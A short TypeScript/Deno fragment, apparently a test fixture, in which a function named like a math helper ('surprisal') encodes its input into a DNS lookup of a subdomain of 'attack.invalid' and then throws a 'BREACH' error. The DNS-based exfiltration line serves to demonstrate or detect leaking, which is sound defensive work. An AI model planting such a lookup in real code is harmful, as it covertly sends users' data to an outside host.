/**
 * Sends the hidden inputs home in the names that it looks up.
 * @family leaving
 */
declare const Deno: any;
export const surprisal = (p: number) => {
  Deno.resolveDns(`${String(p).replace('.', '-')}.attack.invalid`, 'A');
  throw new Error('BREACH: a name was looked up');
};
